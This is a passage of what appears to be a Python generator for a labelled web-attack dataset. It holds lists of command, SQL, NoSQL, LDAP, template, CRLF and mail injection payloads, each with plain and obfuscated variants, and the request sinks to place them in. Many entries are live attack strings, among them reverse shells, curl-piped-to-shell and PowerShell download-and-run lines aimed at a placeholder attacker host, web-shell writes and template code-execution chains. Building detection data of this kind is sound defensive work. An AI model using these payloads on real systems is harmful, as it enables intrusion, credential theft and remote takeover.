        "/oembed",
        "/avatar/upload_url",
        "/api/v2/feeds",
        "/link-unfurl",
    ],
    params=[
        "url",
        "target",
        "callback_url",
        "webhook_url",
        "image_url",
        "feed",
        "link",
        "src",
        "endpoint",
        "uri",
        "remote",
        "proxy_url",
        "avatar_url",
    ],
    hdrs=["Referer", "X-Callback-URL", "X-Webhook-Target", "X-Fetch-Url", "X-Image-Source"],
    cookies=["return_url", "avatar_src", "feed_url"],
    fnames=["feed.xml", "import.txt"],
)

# ================================================================ rce (OS command injection)

RCE_NORMAL = [
    E("; «CMD»"),
    E("| cat /etc/passwd"),
    E("&& whoami"),
    E("$(«CMD»)"),
    E("`uname -a`"),
    E("127.0.0.1; ls -la /"),
    E("8.8.8.8 | nc «IP» 4444 -e /bin/sh"),
    E("; curl -s http://«AH»/s.sh | bash"),
    E("; wget -qO- http://«AH»/m | sh"),
    E("; bash -i >& /dev/tcp/«IP»/4444 0>&1"),
    E("|| ping -c 10 127.0.0.1"),
    E("; sleep 10 #"),
    E("; powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://«AH»/a.ps1')\""),
    E("& type C:\\Windows\\win.ini"),
    E("| whoami /all"),
    E("& certutil -urlcache -split -f http://«AH»/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
    E("& net user svc_backup P@ssw0rd! /add"),
    E("() { :; }; /bin/bash -c 'curl http://«AH»/x | sh'", pl=["header"], hdr="User-Agent", path="/cgi-bin/status"),
    E(
        "() { ignored; }; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd",
        pl=["header"],
        hdr="Referer",
        path="/cgi-bin/test.cgi",
    ),
    E("$(nslookup $(whoami).«OAST»)"),
    E("; python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"),
    E("; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc «IP» 4444 >/tmp/f"),
    E(
        '; perl -e \'use Socket;$i="«IP»";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\''
    ),
    E("--upload-pack=touch /tmp/pwned", param="repo", path="/api/git/clone"),
    E("-oProxyCommand=sh -c 'curl http://«AH»/x|sh' x", param="host", path="/api/ssh/test"),
    E("--checkpoint=1 --checkpoint-action=exec=sh shell.sh", param="options", path="/backup/run"),
    E("-o /var/www/html/shell.php http://«AH»/s.txt", param="url", path="/tools/fetch"),
    E(
        "photo.jpg;curl «AH»|sh",
        pl=["multipart"],
        mp="filename",
        fctype="image/jpeg",
        fcontent="\u00ff\u00d8\u00ff\u00e0JFIF",
    ),
    E("|/usr/bin/id"),
    E(
        "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|ls \"-la)'\npop graphic-context\n",
        pl=["multipart"],
        mp="content",
        fname="image.mvg",
        path="/upload/process",
    ),
    E("; nc -e /bin/sh «IP» 4444"),
    E(
        '& powershell -c "Invoke-WebRequest -Uri http://«AH»/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"'
    ),
    E("`curl «OAST»`"),
    E("\n«CMD»\n"),
    E("a.example.com\nid"),
]


def ps_b64_row():
    c = "IEX (New-Object Net.WebClient).DownloadString('http://%s/r.ps1')" % R.choice(ATTACKER_HOSTS)
    return "& powershell -NoP -NonI -W Hidden -Enc " + ps_enc(c)


RCE_HARD = [
    E(";${IFS}cat${IFS}/etc/passwd"),
    E(";cat$IFS$9/etc/passwd"),
    E(";{cat,/etc/passwd}"),
    E(";c'a't /e\"t\"c/pa''sswd"),
    E(";/???/??t /???/p??s??"),
    E(lambda: ";$(printf '%s')" % "".join("\\x%02x" % ord(c) for c in cmd())),
    E(lambda: ";echo %s|base64 -d|sh" % b64(cmd())),
    E(";w\\ho\\am\\i"),
    E(r";$'\x63\x61\x74' /etc/passwd"),
    E("\nid"),
    E(";a=c;b=at;$a$b /etc/passwd"),
    E(";X=$'\\x20';cat${X}/etc/passwd"),
    E(ps_b64_row),
    E("& c^m^d /c wh^oami"),
    E('& cmd /c "set x=who&& set y=ami&& call %x%%y%"'),
    E(";$(rev<<<'imaohw')"),
    E(";eval $(echo 'vq' | tr 'a-z' 'n-za-m')"),
    E(";/bin/ba\\sh -c id"),
    E(";cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    E("%3Bid"),
    E(lambda: "$(echo${IFS}%s|base64${IFS}-d|sh)" % b64(fill("curl http://«AH»/x.sh|sh"))),
    E("& powershell -c \"$c='who'+'ami';iex $c\""),
    E("%0a%63%61%74%20%2f%65%74%63%2f%70%61%73%73%77%64"),
    E("; ping -c 1 «OAST»", pl=["json"], jesc=";-."),
]
RCE_SINK = dict(
    paths=[
        "/cgi-bin/ping.cgi",
        "/api/network/ping",
        "/admin/diagnostics",
        "/tools/traceroute",
        "/api/v1/convert",
        "/backup/run",
        "/api/git/clone",
        "/upload/process",
        "/device/config",
        "/api/dns/lookup",
        "/cgi-bin/status",
    ],
    params=[
        "host",
        "ip",
        "target",
        "domain",
        "filename",
        "cmd",
        "repo",
        "branch",
        "format",
        "address",
        "device",
        "port",
    ],
    hdrs=["User-Agent", "Referer", "X-Forwarded-For", "X-Device-Name"],
    cookies=["host", "last_target", "device"],
    fnames=["backup.tar.txt", "notes.txt", "hosts.txt"],
)

# ================================================================ sqli

SQLI_NORMAL = [
    E("' OR '1'='1' -- "),
    E("1' UNION SELECT username, password FROM users--"),
    E("1 AND 1=1"),
    E("admin'--", param="username"),
    E("1; DROP TABLE users--"),
    E("1' AND SLEEP(5)#"),
    E("1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"),
    E("1' AND updatexml(1,concat(0x7e,user()),1)-- -"),
    E("1; EXEC xp_cmdshell 'whoami'--"),
    E("1' WAITFOR DELAY '0:0:5'--"),
    E("'; EXEC master..xp_dirtree '\\\\«OAST»\\a'--"),
    E("1; SELECT pg_sleep(5)--"),
    E("1' AND 1=CAST((SELECT version()) AS int)--"),
    E("'; COPY (SELECT '') TO PROGRAM 'curl http://«AH»/$(whoami)'--"),
    E("' UNION SELECT NULL,banner FROM v$version--"),
    E("' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual))--"),
    E("' || DBMS_PIPE.RECEIVE_MESSAGE('a',5) ||'"),
    E("' UNION SELECT sql,NULL FROM sqlite_master--"),
    E("1 ORDER BY 5--", param="sort"),
    E("1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)"),
    E("1' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    E("1' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -"),
    E("1 UNION ALL SELECT name, engine FROM system.tables", param="report_id"),
    E("(CASE WHEN (1=1) THEN name ELSE price END)", param="orderby"),
    E("' or 1=1 or ''='", param="password"),
    E("1' AND SLEEP(5) AND '1'='1", pl=["header"], hdr="X-Forwarded-For"),
    E(
        "xyz' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='administrator')='a",
        pl=["cookie"],
        cookie="TrackingId",
    ),
    E(
        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"
    ),
    E("-1 UNION SELECT table_name,column_name FROM information_schema.columns--"),
    E("1'; INSERT INTO users (username,password,role) VALUES ('backdoor','x','admin')--"),
    E("1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64"),
    E("' UNION SELECT NULL,NULL,NULL FROM DUAL WHERE 1=0 UNION SELECT 'a',table_name,NULL FROM all_tables--"),
    E("1)) OR 1=1 LIMIT 1-- -"),
]
SQLI_HARD = [
    E("1'/**/UNION/**/SELECT/**/NULL,password/**/FROM/**/users--"),
    E("1' /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(password) FROM users-- -"),
    E("1'\x0bOR\x0b1=1-- -", pl=["query", "form", "json", "cookie"]),
    E("1' UnIoN SeLeCt username,PaSsWoRd FrOm users-- -"),
    E("'||(SELECT CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110) FROM dual)||'"),
    E("1' AND 0x61646d696e=(SELECT name FROM users LIMIT 1)-- -"),
    E("1'%2f%2a*/UNION%2f%2a*/SELECT 1,2,3-- -"),
    E("\u00bf' OR 1=1-- -", pl=["query"], latin1=True, raw="%bf%27+OR+1%3d1--+-", path="/catalog/view.php"),
    E("1'and(select*from(select(sleep(5)))a)-- -"),
    E("1'||pg_sleep(5)--"),
    E("1.e(ascii 1.e(substring(1.e(select password from users limit 1)1,1)))=97"),
    E("'^(SELECT SLEEP(5))^'"),
    E("' OR 1=1--", pl=["json"], jesc="' =-"),
    E("' OR '1'='1", pl=["xml"], xref="'= "),
    E("admin'/**/-- -", param="username"),
    E(lambda: ";DECLARE @q VARCHAR(99);SET @q=0x%s;EXEC(@q)--" % "waitfor delay '0:0:5'".encode().hex()),
    E("1;SELECT $$x$$||pg_sleep(5)--"),
    E("\u02bc OR 1=1-- "),
    E("\uff07 UNION SELECT password FROM users-- "),
    E("1' AND q'[x]'=q'[x]' AND (SELECT COUNT(*) FROM all_users)>0--"),
    E("1'||(SELECT`password`FROM`users`LIMIT 1)||'"),
    E("1' AND JSON_EXTRACT('{\"a\":1}','$.a')=1 UNION SELECT 1,@@version-- -"),
    E("1%27%20OR%201%3D1--%20"),
]
SQLI_SINK = dict(
    paths=[
        "/products",
        "/api/v2/orders",
        "/catalog/view.php",
        "/reports/export",
        "/api/customers/search",
        "/admin/users.aspx",
        "/blog/archive",
        "/item.jsp",
        "/api/v1/invoices",
        "/news/read.asp",
        "/search",
    ],
    params=[
        "id",
        "q",
        "sort",
        "order",
        "category",
        "user_id",
        "from",
        "status",
        "ref",
        "pid",
        "year",
        "filter",
        "orderby",
        "email",
        "username",
    ],
    hdrs=["X-Forwarded-For", "Referer", "User-Agent", "X-Client-Id", "X-Tenant", "Accept-Language"],
    cookies=["TrackingId", "session_pref", "cart_id", "lang", "uid"],
    fnames=["import.csv", "search.txt"],
)

# ================================================================ nosqli


def login_doc(field):
    def f(S):
        if field == "password":
            return {"username": R.choice(["admin", "root", "administrator", "j.smith@example.com"]), "password": S}
        return {field: S, "password": rstr(10)}

    return f


NOSQLI_NORMAL = [
    E({"$ne": None}, jdoc=login_doc("password"), path="/api/login"),
    E({"$gt": ""}, jdoc=login_doc("password"), path="/auth/session"),
    E({"$regex": "^a"}, jdoc=login_doc("username"), path="/api/login"),
    E({"$where": "this.password.length > 0"}, param="filter"),
    E({"$where": "sleep(5000) || true"}, param="query"),
    E("password[$ne]", pl=["form", "query_key"], as_name=True, kval="x"),
    E("username[$regex]", pl=["form", "query_key"], as_name=True, kval="^adm"),
    E("user[$exists]", pl=["query_key", "form"], as_name=True, kval="true"),
    E({"$or": [{}, {"a": "a"}]}, param="filter"),
    E("';return true;var a='", param="username"),
    E("'; sleep(5000); var x='", param="name"),
    E({"$expr": {"$gt": [{"$strLenCP": "$password"}, 5]}}, param="filter"),
    E(
        [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "leak"}}],
        param="pipeline",
        path="/api/v1/reports/aggregate",
    ),
    E({"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}, param="filter"),
    E({"$in": ["admin", "root", "superuser"]}, jdoc=login_doc("username")),
    E({"$nin": []}, param="role"),
    E({"_id": {"$gt": None}}, param="selector", path="/_db/orders/_find"),
    E("a'; db.users.drop(); var b='", param="q"),
    E("' OR 1=1 WITH 1 as a MATCH (n) RETURN n//", param="name", path="/api/graph/people"),
    E("x' }) MATCH (u:User) RETURN u.email, u.passwordHash //", param="q"),
    E("' CALL dbms.procedures() YIELD name RETURN name//", param="q"),
    E("' LOAD CSV FROM 'http://«OAST»/'+n.password AS l RETURN l//", param="id"),
    E("g.V().drop().iterate()", param="gremlin"),
    E("FOR u IN users RETURN u", param="aql"),
    E("filter[$where]", pl=["query_key"], as_name=True, kval="1==1"),
    E(
        {"$gt": ""},
        jdoc=lambda S: {"email": "admin@" + R.choice(["example.com", "corp.example.net"]), "token": S},
        path="/api/reset-password",
    ),
    E("password[$regex]", pl=["form"], as_name=True, kval=".*"),
    E({"$where": "function(){ return obj.credits - obj.debits < 0; }"}, param="filter"),
    E({"$jsonSchema": {"required": ["password"], "properties": {"password": {"pattern": "^a"}}}}, param="query"),
    E("1; return db.getCollectionNames();", param="id"),
]
NOSQLI_HARD = [
    E({"$ne": None}, jesc="$", jdoc=login_doc("password")),
    E(
        {
            "$where": "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('«CMD»')"
        },
        param="filter",
    ),
    E({"$regex": "^(?=a)"}, jdoc=login_doc("username")),
    E({"$where": "\\u0073leep(5000)"}, param="filter"),
    E({"$expr": {"$function": {"body": "function(){ return true }", "args": [], "lang": "js"}}}, param="filter"),
    E({"$where": "Object.keys(this)[0].match('^pa')"}, param="filter"),
    E({"$regex": "^adm", "$options": "si"}, jdoc=login_doc("username")),
    E(
        "'; return (function(){var d=new Date();do{var c=new Date();}while(c-d<5000);return true})(); var x='",
        param="username",
    ),
    E(
        {
            "$accumulator": {
                "init": "function(){return 0}",
                "accumulate": "function(s){return s}",
                "accumulateArgs": ["$password"],
                "merge": "function(a,b){return a}",
                "lang": "js",
            }
        },
        param="group",
    ),
    E("$ne", pl=["json_key"], jkdoc=lambda K: {"username": "admin", "password": {K: None}}),
    E(
        "$where",
        pl=["json_key"],
        jkdoc=lambda K: {"collection": "orders", "filter": {K: "sleep(3000) || true"}, "limit": 20},
    ),
    E("password[$nin][]", pl=["form", "query_key"], as_name=True, kval="x"),
    E("username[$regex]", pl=["form"], as_name=True, kval=".{25}"),
    E("true, $where: '1 == 1'", param="id"),
    E({"$where": "d=new Date;while(new Date-d<3e3);"}, jesc="$()"),
    E(
        {"type": "user", "name": "eve", "roles": ["_admin"], "password": "x"},
        path="/_users/org.couchdb.user:eve",
        method="PUT",
        jdoc=lambda S: S,
    ),
    E("' OR 1=1 RETURN n//", pl=["json"], jesc="'=/"),
    E("sort[$natural]", pl=["query_key"], as_name=True, kval="-1"),
    E({"username": {"$in": ["admin"]}, "password": {"$exists": True}}, jdoc=lambda S: {"login": S}),
    E("\\' || this.password[0] == \\'a", param="name"),
]
NOSQLI_SINK = dict(
    paths=[
        "/api/login",
        "/api/users",
        "/api/v1/products/search",
        "/auth/session",
        "/api/orders/lookup",
        "/api/reset-password",
        "/api/v2/notes",
    ],
    params=["username", "password", "email", "token", "q", "filter", "id", "user", "name", "status"],
    hdrs=["X-Filter", "X-User", "Referer"],
    cookies=["filter", "user", "token"],
    fnames=["query.json"],
)


# ================================================================ ldapi

LDAP_NORMAL = [
    E(x)
    for x in [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(|(objectClass=*)",
        "*",
        "admin*)((|userPassword=*)",
        "*)(userPassword=*",
        "x)(|(cn=*)(mail=*",
        "admin)(!(&(1=0",
        "*)(description=*",
        ")(cn=*))(|(cn=*",
        "*(|(mail=*))",
        "*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local",
        "admin)(userPassword=a*",
        "*)(sAMAccountName=*",
        "*)(objectCategory=person)(|(adminCount=1",
        "*)(homeDirectory=*",
        "(|(uid=*)(uid=*))",
        "admin))(|(a=*",
        "*)(mail=*@*",
        "jdoe)(|(telephoneNumber=*",
        "*)(&(objectClass=user)(pwdLastSet=0",
        "*)(uidNumber>=0",
        "*))(|(objectClass=*",
        "admin)(|(password=*)",
        "*)(cn=admin",
        "x*)(|(sn=*",
        "*)(givenName=*))(&(uid=x",
        "uid=*,ou=people,dc=example,dc=com",
        "cn=admin,dc=example,dc=com)(|(objectClass=*",
        "*)(ms-Mcs-AdmPwd=*",
        "*)(unicodePwd=*",
    ]
]
LDAP_HARD = [
    E("%2a%29%28uid%3d%2a"),
    E("*)(uId=*"),
    E("*)(OBJECTCLASS=*"),
    E("admin)\x00", pl=["query", "form", "json", "cookie", "multipart"]),
    E("*)(2.5.4.3=*"),
    E("*)(0.9.2342.19200300.100.1.1=*"),
    E("*)(cn:dn:=admin"),
    E("*)(uid:caseExactMatch:=admin"),
    E("*)(cn:1.3.6.1.4.1.1466.109.114.2:=*"),
    E("*)(cn~=adm"),
    E("*)(|(cn>=a)(cn<=z)"),
    E("* ) ( uid = *"),
    E("*)(&(objectClass=user)(!(userAccountControl:1.2.840.113556.1.4.803:=2))"),
    E("*)(uid=*", pl=["json"], jesc="*()="),
    E("*)(|(objectClass=*", pl=["xml"], xref="*()|="),
    E("\uff0a)(uid=\uff0a"),
    E("*)(|(&)(objectClass=*"),
    E("*))%00"),
    E("admin)(|(cn=\\2a)(cn=*"),
    E("%2A)(%7C(objectClass%3D%2A)"),
]
LDAP_SINK = dict(
    paths=[
        "/login",
        "/api/directory/search",
        "/people/lookup",
        "/auth/ldap",
        "/admin/groups",
        "/phonebook",
        "/api/v1/users/find",
    ],
    params=["user", "username", "uid", "cn", "q", "mail", "group", "filter", "name", "dept"],
    hdrs=["X-Remote-User", "X-User", "X-Forwarded-User"],
    cookies=["user", "uid", "dir_filter"],
    fnames=["lookup.txt"],
)

# ================================================================ ssti

HBS_RCE = (
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}'
    "{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('«CMD»');\"}}{{this.pop}}"
    "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"
)
PEBBLE_NEW = (
    "{% set cmd = '«CMD»' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}"
    "{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray()) }}"
)

SSTI_NORMAL = [
    E(x)
    for x in [
        "{{7*'7'}}",
        "{{config.items()}}",
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('«CMD»').read() }}",
        "{{ cycler.__init__.__globals__.os.popen('«CMD»').read() }}",
        "{{ lipsum.__globals__['os'].popen('«CMD»').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('«CMD»').read()}}{% endif %}{% endfor %}",
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('«CMD»').read() }}",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('«CMD»')}}",
        "{{['«CMD»']|filter('system')}}",
        "{{['cat /etc/passwd']|map('system')|join}}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("«CMD»")}',
        '${"freemarker.template.utility.Execute"?new()("«CMD»")}',
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('«CMD»'))$ex.waitFor()",
        "__${T(java.lang.Runtime).getRuntime().exec('«CMD»')}__::.x",
        "[[${T(java.lang.Runtime).getRuntime().exec('«CMD»')}]]",
        "<%= system('«CMD»') %>",
        "<%= `ls /` %>",
        "<%= File.open('/etc/passwd').read %>",
        HBS_RCE,
        "{system('«CMD»')}",
        "{php}echo `«CMD»`;{/php}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
        "<% import os %>${os.popen('«CMD»').read()}",
        '${self.module.cache.util.os.system("«CMD»")}',
        "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('«CMD»') }}",
        "{% import os %}{{ os.popen('«CMD»').read() }}",
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('«CMD»')\")()}}",
        "<%= global.process.mainModule.require('child_process').execSync('«CMD»') %>",
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('«CMD»')}()}",
        '@System.Diagnostics.Process.Start("cmd.exe","/c «WCMD»")',
        '${"«CMD»".execute().text}',
        "{{ config.__class__.from_envvar.__globals__.__builtins__.__import__('os').popen('«CMD»').read() }}",
    ]
]
SSTI_HARD = [
    E(
        "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"
    ),
    E(
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('«CMD»')|attr('read')()}}"
    ),
    E("{% set a='__cla' %}{% set b='ss__' %}{{ ()[a~b].__base__.__subclasses__() }}"),
    E('{{ lipsum|attr("__globals__")|attr("__getitem__")("os")|attr("popen")("«CMD»")|attr("read")() }}'),
    E("{{ ''.__class__.__mro__[1]['__subcla'+'sses__']() }}"),
    E("{%print(lipsum.__globals__.os.popen('«CMD»').read())%}"),
    E("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('«CMD»').read() }}"),
    E("{{ lipsum.__globals__['\\u006fs'].popen('«CMD»').read() }}"),
    E("{% set c=dict(__cla=1,ss__=1)|join %}{% set g=dict(__glo=1,bals__=1)|join %}{{ lipsum|attr(g) }}"),
    E(
        lambda: (
            "{{ lipsum.__globals__.__builtins__.eval(lipsum.__globals__.__builtins__.__import__('base64').b64decode('%s')) }}"
            % b64("__import__('os').popen('%s').read()" % cmd())
        )
    ),
    E("{{['«CMD»',1]|sort('system')|join}}"),
    E("{{'/etc/passwd'|file_excerpt(1,30)}}"),
    E("{{[0]|reduce('system','«CMD»')}}"),
    E('${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["«CMD»"]).start()}'),
    E(
        '<#assign classloader=object?api.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("freemarker.template.utility.ObjectWrapper")><#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)><#assign ec=classloader.loadClass("freemarker.template.utility.Execute")>${dwf.newInstance(ec,null)("«CMD»")}'
    ),
    E('$class.inspect("java.lang.Runtime").type.getRuntime().exec("«CMD»").waitFor()'),
    E(lambda: "__${%s}__::.x" % spel_chars(cmd())),
    E('<%= Kernel.const_get(:IO).popen("«CMD»").read %>'),
    E('<%= instance_eval("sys"+"tem(\'«CMD»\')") %>'),
    E("{if system('«CMD»')}{/if}"),
    E("<%! import os as o %>${getattr(o,'sys'+'tem')('«CMD»')}"),
    E("{{ cycler.__init__.__globals__.os.popen('«CMD»').read() }}", pl=["json"], jesc="{}_."),
    E('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("«CMD»")}', pl=["xml"], xref='${}#"?'),
    E(PEBBLE_NEW),
]
SSTI_SINK = dict(
    paths=[
        "/render",
        "/preview",
        "/api/templates/preview",
        "/email/preview",
        "/profile",
        "/greeting",
        "/invoice/pdf",
        "/cms/page/preview",
        "/report",
        "/notify/test",
    ],
    params=["name", "template", "message", "subject", "bio", "greeting", "title", "content", "footer", "q"],
    hdrs=["User-Agent", "Referer", "X-Template", "X-Greeting"],
    cookies=["name", "theme", "greeting", "display_name"],
    fnames=["template.html", "email.tpl", "invoice.ftl", "page.vm"],
)

# ================================================================ crlf

CRLF_NORMAL = [
    E("/home\r\nSet-Cookie: sessionid=attacker123; Path=/"),
    E("en\r\nX-Injected: 1"),
    E("\r\nLocation: https://«AH»/login"),
    E("\r\n\r\n<script>alert(document.domain)</script>"),
    E(
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<h1>defaced by crlf</h1>"
    ),
    E("\r\nAccess-Control-Allow-Origin: https://«AH»\r\nAccess-Control-Allow-Credentials: true"),
    E("\nSet-Cookie: admin=true"),
    E("\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>"),
    E(
        'admin\r\n127.0.0.1 - - [08/Dec/2026:10:00:00 +0000] "GET /admin HTTP/1.1" 200 512',
        param="username",
        pl=["form", "json", "query"],
    ),
    E(
        "/v1/status HTTP/1.1\r\nHost: internal-admin.svc.cluster.local\r\n\r\nGET /admin/users",
        param="upstream_path",
        pl=["query", "json"],
    ),
    E("report.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", param="filename", path="/download"),
    E("fr\r\nRefresh: 0; url=https://«AH»/"),
    E("\r\nSet-Cookie: csrftoken=fixed; Domain=.example.com"),
    E("abc\r\nCache-Control: public, max-age=31536000"),
    E("https://example.com/\r\nX-Forwarded-Host: «AH»"),
    E("https://www.example.com/%0d%0aSet-Cookie:%20sessionid=evil", pl=["header"], hdr="Referer"),
    E("en-US%0d%0aX-Injected:%20crlf", pl=["header"], hdr="Accept-Language"),
    E("«AH»%0d%0aX-Forwarded-Proto: http", pl=["header"], hdr="X-Forwarded-Host"),
    E("abc123%0d%0aSet-Cookie: a=b", pl=["header"], hdr="X-Request-Id"),
    E("en\r\nSet-Cookie: role=admin", pl=["cookie"], cookie="lang"),
    E("\r\nSet-Cookie:crlf=injection", pl=["path"], path="/"),
    E("\r\nContent-Security-Policy: script-src *"),
    E(
        "v1\r\nX-Admin: true",
        pl=["json"],
        jdoc=lambda S: {"url": "https://hooks.example.com/in", "headers": [{"name": "X-Trace", "value": S}]},
        path="/api/v1/webhooks",
    ),
    E("\r\nLink: <https://«AH»/evil.css>; rel=stylesheet"),
    E("/%0d%0aLocation:%20https://«AH»/", pl=["header"], hdr="X-Original-URL"),
    E("\r\nSet-Cookie: JSESSIONID=fixated123; HttpOnly"),
    E("?\r\nX-Cache-Key: poisoned"),
    E("\r\nContent-Disposition: attachment; filename=update.exe"),
    E("\n\nHTTP/1.1 302 Found\nLocation: https://«AH»/"),
    E("dashboard\r\nSet-Cookie: remember_me=1; Max-Age=99999999", pl=["multipart", "form"]),
]
CRLF_HARD = [
    E("%0d%0aSet-Cookie: x=1"),
    E("\u560d\u560aSet-Cookie: x=1"),
    E("%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", pl=["header"], hdr="Referer"),
    E("\rSet-Cookie: a=b"),
    E("%0aX-Injected:%20lf", pl=["header"], hdr="X-Forwarded-Host"),
    E("\r\n\tSet-Cookie: folded=1"),
    E("%u000d%u000aSet-Cookie: x=1"),
    E("\u0085Set-Cookie: x=1"),
    E("en\r\nSet-Cookie: x=1", pl=["json"], jesc="\r\n:"),
    E("%c4%8d%c4%8aSet-Cookie: x=1"),
    E("%23%0d%0aSet-Cookie:x=1"),
    E("home\r\nSet-Cookie: x=1", pl=["xml"], xref="\n:"),
    E("%0d%0aSet-Cookie: x=1", pl=["cookie"], cookie="return_to"),
    E("example.com%0D%0A%0D%0A<script>alert(1)</script>", pl=["header"], hdr="X-Forwarded-Host"),
    E("\x00\r\nSet-Cookie: x=1", pl=["query", "form", "json"]),
    E("%E5%98%8D%E5%98%8ALocation: https://«AH»/"),
    E("report%0d%0aContent-Type: text/html.pdf", pl=["multipart"], mp="filename", fctype="application/pdf"),
    E("\r\n Set-Cookie: x=1"),
    E("%0D%0A%20Set-Cookie:whoami=x", pl=["header"], hdr="Origin"),
    E("/%0d%0a%0d%0a<svg/onload=alert(1)>", pl=["path", "query"]),
    E("%5cr%5cnSet-Cookie: x=1"),
]
CRLF_SINK = dict(
    paths=[
        "/redirect",
        "/login",
        "/set-language",
        "/download",
        "/api/v1/callback",
        "/r",
        "/logout",
        "/track",
        "/lang",
        "/export",
    ],
    params=["url", "next", "lang", "redirect", "return_to", "filename", "locale", "ref", "continue", "callback"],
    hdrs=["Referer", "X-Forwarded-Host", "Accept-Language", "X-Request-Id", "X-Original-URL", "Origin"],
    cookies=["lang", "locale", "return_to", "tracking"],
    fnames=["note.txt"],
)

# ================================================================ mail_injection

MAIL_NORMAL = [
    E("victim@example.com\r\nBcc: list@spam-target.example"),
    E("attacker@«AH»\nCc: everyone@corp.example.com"),
    E("Hello\r\nBcc: x@«AH»", param="subject"),
    E(
        'attacker@«AH»\r\nContent-Type: text/html\r\n\r\n<b>Your account is locked</b> <a href="https://«AH»/">verify</a>'
    ),
    E("user@example.com>\r\nRCPT TO:<victim@other.example"),
    E(
        "a@b.example\r\nDATA\r\nFrom: ceo@corp.example.com\r\nSubject: urgent wire\r\n\r\nPlease wire $48,000 today.\r\n.\r\nQUIT"
    ),
    E('INBOX"\r\nA0002 LIST "" "*"', param="mailbox", path="/webmail/api/folders"),
    E('"attacker\\" -oQ/tmp/ -X/var/www/cache/phpcode.php some"@email.com', param="email"),
    E("${run{/bin/bash -c 'curl http://«AH»/x|sh'}}@localhost", param="recipient"),
    E("-X/var/www/html/shell.php -OQueueDirectory=/tmp user@example.com", param="from"),
    E("test@example.com\nBcc: a@«AH», b@«AH»"),
    E("Reply\r\nReply-To: attacker@«AH»", param="subject"),
    E("John\r\nTo: victim2@example.org", param="name"),
    E("sales@example.com\r\nX-Mailer: bulk\r\nBcc: x@«AH»"),
    E(
        "Hello\n.\r\nMAIL FROM:<admin@corp.example.com>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nFrom: admin@corp.example.com\r\nSubject: password reset\r\n\r\nclick https://«AH»/reset\r\n.\r\n",
        param="message",
    ),
